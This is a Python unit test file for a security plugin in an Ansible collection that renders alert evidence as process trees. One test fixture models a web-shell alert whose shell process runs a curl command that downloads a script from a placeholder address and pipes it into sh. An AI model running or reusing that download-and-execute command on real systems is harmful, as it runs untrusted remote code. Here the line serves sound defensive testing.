# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
from __future__ import annotations

import typing as t

from ansible_collections.bulwark.servers.plugins.plugin_utils.report import evidence, process_tree

from tests.unit.plugins.plugin_utils.report import samples


def trees(*processes: t.Any) -> list[process_tree.Node]:
    return evidence.rows({"evidences": [{"process": process} for process in processes]}).processes


def outline(nodes: list[process_tree.Node], depth: int = 0) -> list[str]:
    return [line for node in nodes for line in [f"{' ' * depth}{node.label}", *outline(node.children, depth + 1)]]


def test_processes_of_the_same_ancestors_are_one_tree() -> None:
    rows = evidence.rows(samples.web_shell().event)
    assert outline(rows.processes) == ["systemd (1)", " nginx (810)", "  sh (4711)", "  id (4712)"]
    shell = rows.processes[0].children[0].children[0]
    assert (shell.command, shell.is_subject) == ("sh -c 'curl -s http://192.0.2.9/x | sh'", True)
    assert shell.facts == [("path", "/usr/bin/sh")]
    assert not rows.processes[0].is_subject
    assert rows.facts == []


def test_the_same_process_twice_is_one() -> None:
    process = {"pid": 7, "name": "sh", "parent_process": {"pid": 1, "name": "init"}}
    assert outline(trees(process, process)) == ["init (1)", " sh (7)"]


def test_an_ancestor_that_is_a_subject_too_is_marked() -> None:
    above = {"pid": 2, "name": "bash", "parent_process": {"pid": 1, "name": "init"}}
    (tree,) = trees({"pid": 7, "name": "sh", "parent_process": above}, above)
    assert tree.children[0].is_subject
    assert outline([tree]) == ["init (1)", " bash (2)", "  sh (7)"]


def test_what_the_head_does_not_say_stays_a_fact() -> None:
    file = {"path": "/bin/sh", "name": "sh", "type_id": 1, "hashes": [{"algorithm": "SHA-256", "value": "ab"}]}
    process = {
        "path": "/bin/sh",
        "file": file,
        "user": {"name": "www-data"},
        "parent_process": {"uid": "S-1"},
    }
    (tree,) = trees(process)
    assert outline([tree]) == ["S-1", " sh"]
    names = [
        name.replace(" \N{SINGLE RIGHT-POINTING ANGLE QUOTATION MARK} ", ".") for name, _v in tree.children[0].facts
    ]
    assert names == ["path", "file.hashes.SHA-256", "user.name"]


def test_a_process_without_a_parent_is_rows_as_before() -> None:
    rows = evidence.rows({"evidences": [{"process": {"pid": 7, "name": "sh"}}]})
    assert (rows.processes, len(rows.facts)) == ([], 2)


def test_all_of_a_command_line_is_there_and_its_controls_are_visible() -> None:
    process = {"pid": 7, "cmd_line": "x" * 9_000 + "\x1b[2J", "parent_process": {"pid": 1}}
    (tree,) = trees(process)
    assert tree.children[0].command == "x" * 9_000 + "\\x1b[2J"


def test_trees_are_bounded() -> None:
    processes = [{"pid": number, "parent_process": {"pid": 10_000 + number}} for number in range(500)]
    rows = evidence.rows({"evidences": [{"process": process} for process in processes]})
    assert len(outline(rows.processes)) <= evidence.ROW_LIMIT + 2
    assert rows.cut > 400


def test_any_shape_is_no_reason_to_fail() -> None:
    for process in ({"parent_process": {}}, {"parent_process": {"parent_process": []}, "pid": "x", "name": {"a": 1}}):
        assert trees(process)
